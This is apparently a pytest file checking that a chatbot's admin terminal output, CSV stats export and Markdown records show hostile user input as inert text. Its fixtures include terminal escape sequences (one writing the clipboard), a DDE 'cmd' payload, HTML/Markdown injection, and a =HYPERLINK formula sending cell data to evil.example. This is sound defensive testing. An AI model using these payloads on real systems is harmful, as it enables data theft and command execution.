"""Text a hostile user sends, as it reaches the people who read it later: an administrator's
terminal (`bot.py handoff list`, `bot.py stats`, the console chat's /unanswered) and the
policy owner's spreadsheet (`bot.py stats --format csv`).

A provider's message can hold terminal control sequences (ESC [2J clears the screen, ESC ]0;…BEL
retitles the window, ESC ]52 writes the clipboard), carriage returns that overwrite a line, bidi
overrides that reverse it, and spreadsheet formulas (=HYPERLINK(…) runs when the CSV is opened).
Each must arrive as visible, inert text. Real core, real SQLite, real model; `bot.py` in a subprocess.
"""

from __future__ import annotations

import csv
import io

import pytest

from assistant.core.events import Event
from conftest import chat_app, run_bot, write_config

PROVIDER, OFFICER = 5101, 9101
HOSTILE = ("what is the \x1b]0;PWNED\x07 \x1b[2J\x1b[31mhourly rate\x1b[0m for home care\roverwritten "
           "\u202etxt.exe \x9b31m")
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click") what is the tender deadline'
RAW = ("\x1b", "\x07", "\x9b", "\u202e")


@pytest.fixture()
def hostile_app(shipped_app, settings, tmp_path):
    app = chat_app(shipped_app, settings, tmp_path / "var")
    for text in (HOSTILE, FORMULA, "+cmd|' /C calc'!A0 can we subcontract", "@SUM(1+1) who signs a waiver"):
        app.core.handle(Event(PROVIDER, "text", text=text))
    app.core.handle(Event(PROVIDER, "command", command="human", args="call me \x1b[31mRED\x1b[0m \x1b]52;c;ZWNobw==\x07"))
    return app


def _clean(out: str) -> None:
    for ch in RAW:
        assert ch not in out, f"{ch!r} reached the reader: {out!r}"[:3000]
    assert "\r" not in out.replace("\r\n", "\n"), "a carriage return can overwrite a line"


def test_handoff_list_shows_control_characters_as_escapes(hostile_app, tmp_path):
    out = run_bot("--config", str(write_config(tmp_path)), "handoff", "list")
    assert out.returncode == 0, out.stderr
    _clean(out.stdout)
    assert "\\x1b[31mRED" in out.stdout, out.stdout  # still there to read, just inert


def test_stats_text_and_csv_are_inert(hostile_app):
    from assistant.reports.stats import build_report, render

    report = build_report(hostile_app.db, embedder=hostile_app.embedder, retriever=hostile_app.retriever)
    text = render(report, "text")
    _clean(text)
    assert "hourly rate" in text
    table = render(report, "csv")
    _clean(table)
    names = [row[1] for row in csv.reader(io.StringIO(table)) if row and row[0] == "topic"]
    assert names, table
    for name in names:
        assert not name.startswith(("=", "+", "-", "@")), f"a spreadsheet would run {name!r}"
    assert any(n.startswith("'=HYPERLINK") for n in names), names  # kept, as text


def test_console_unanswered_is_inert(hostile_app, shipped_app, settings):
    from assistant.app import App, wire_conversation
    from assistant.channels.console import render

    officer = App(settings=hostile_app.settings, embedder=shipped_app.embedder, retriever=shipped_app.retriever,
                  answers=shipped_app.answers)
    wire_conversation(officer, session_roles={OFFICER: "officer"})
    replies = officer.core.handle(Event(OFFICER, "command", command="unanswered"))
    shown = "\n".join(render(r) for r in replies)
    assert "hourly rate" in shown, shown
    _clean(shown)


def test_a_decision_record_shows_typed_markdown_as_text(shipped_app, settings, tmp_path):
    """A typed answer and a display name are written into the Markdown record as text: a link, an
    image, raw HTML or bold typed by the person must not render as one where the record is read."""
    app = chat_app(shipped_app, settings, tmp_path / "var")
    typed = "Day care [click](http://evil.example) ![x](http://evil.example/p.png) <img src=x onerror=alert(1)> **APPROVED**"
    name = "Sam](http://evil.example) <b>"
    send = lambda **kw: app.core.handle(Event(PROVIDER, name=name, **kw))  # noqa: E731
    send(kind="command", command="start", args="checklist_service-review")
    replies = send(kind="text", text=typed)
    for _ in range(20):
        files = [f for r in replies for f in r.files if str(f.path).endswith(".md")]
        if files:
            break
        choices = [b for r in replies for row in r.buttons for b in row
                   if b.token and not b.label.startswith(("ℹ️", "⬅️", "✖️"))]
        assert choices, [r.plain for r in replies]
        replies = send(kind="button", token=choices[0].token)
    assert files, "the checklist never finished"
    md = files[0].path.read_text(encoding="utf-8")
    import markdown_it

    html = markdown_it.MarkdownIt().render(md)
    assert "<a " not in html and "<img" not in html and "<b>" not in html and "<strong>APPROVED" not in html, html
    assert "Day care" in md and "APPROVED" in md and "evil.example" in md  # what was typed is all still there


@pytest.mark.parametrize("pad", [" " * 100_000, "\n" * 100_000, " \t" * 50_000])
def test_a_question_after_a_page_of_blank_space_is_answered_at_once(shipped_app, settings, tmp_path, pad):
    """Blank space pasted before a question is not the question: it is answered as if typed alone
    (it used to be clipped to 2,000 blanks and refused as empty), and the blanks cost nothing (the
    typed-button-number check backtracked over them: 16,000 spaces took 1.7 s, 100,000 over a minute)."""
    import time

    app = chat_app(shipped_app, settings, tmp_path / "var")
    plain = app.core.handle(Event(PROVIDER, "text", text="who approves a £60,000 contract?"))[0].plain
    t0 = time.perf_counter()
    replies = app.core.handle(Event(PROVIDER, "text", text=pad + "who approves a £60,000 contract?" + pad))
    elapsed = time.perf_counter() - t0
    assert replies[0].plain == plain, [r.plain[:200] for r in replies]
    assert elapsed < 10, f"{elapsed:.1f} s for one message"  # a hang guard, not a speed measure
